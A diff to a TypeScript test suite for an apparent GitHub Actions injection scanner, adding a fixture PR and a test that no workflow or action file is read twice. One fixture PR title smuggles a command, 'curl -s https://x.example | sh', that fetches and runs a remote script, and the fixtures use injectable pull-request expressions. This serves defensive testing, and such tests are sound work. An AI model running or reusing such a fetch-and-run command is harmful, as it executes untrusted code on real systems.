@@ -21,6 +21,7 @@ let callee: PrFixture;
 let dispatch: PrFixture;
 let caller: PrFixture;
 let quietCaller: PrFixture;
+let both: PrFixture;
 
 beforeAll(async () => {
   server = await startGitHubServer();
@@ -60,6 +61,19 @@ beforeAll(async () => {
   );
   quietCaller = server.addPullRequest(
     makePrFixture({ ...base, number: 12, files: [{ path: '.github/workflows/lint.yml', base: lint("'fixed'"), head: lint('${{ github.event.pull_request.number }}') }], baseFiles: calleeFiles }),
+  );
+  // The PR changes a local action (its callers are wanted: the base's workflows) and a workflow that calls
+  // a reusable workflow (its callees are wanted): the changed workflow and the callee are among the base's workflows.
+  both = server.addPullRequest(
+    makePrFixture({
+      ...base,
+      number: 13,
+      files: [
+        { path: '.github/actions/lint/action.yml', base: action('echo "$TITLE"'), head: action('echo "${{ inputs.title }}"') },
+        { path: '.github/workflows/lint.yml', base: lint("'fixed'"), head: lint('${{ github.event.pull_request.title }}') },
+      ],
+      baseFiles: { '.github/actions/label/action.yml': action('true'), '.github/workflows/other.yml': workflow('other'), '.github/workflows/ci.yml': workflow('ci') },
+    }),
   );
   many = server.addPullRequest(makePrFixture({ ...base, number: 6, title: 'docs: typo; curl -s https://x.example | sh', baseFiles }));
 });
@@ -127,6 +141,16 @@ describe('reading the local actions a changed caller passes outsider-written tex
     ]);
     await analyze(quietCaller);
     expect(server.requests.some((r) => decodeURIComponent(r.path).includes('/contents/.github/actions'))).toBe(false);
+  });
+
+  it('reads a file once when it is a changed file\'s base, one of the base\'s workflows and a callee at once', async () => {
+    const { snapshot } = await analyze(both);
+    // Every read of a workflow or action file, with its ref: none twice.
+    const reads = server.requests.map((r) => decodeURIComponent(r.url)).filter((u) => /\/contents\/\.github\/(?:workflows|actions)\/./.test(u));
+    expect(reads.length).toBeGreaterThanOrEqual(4);
+    expect(reads.filter((u, i) => reads.indexOf(u) !== i)).toEqual([]);
+    // Read for all three reasons: the base's workflows (other.yml, ci.yml, lint.yml's base) and the unchanged callee.
+    expect(snapshot.baseFiles.map((f) => f.path).sort()).toEqual(['.github/actions/label/action.yml', '.github/workflows/ci.yml', '.github/workflows/lint.yml', '.github/workflows/other.yml']);
   });
 });
 
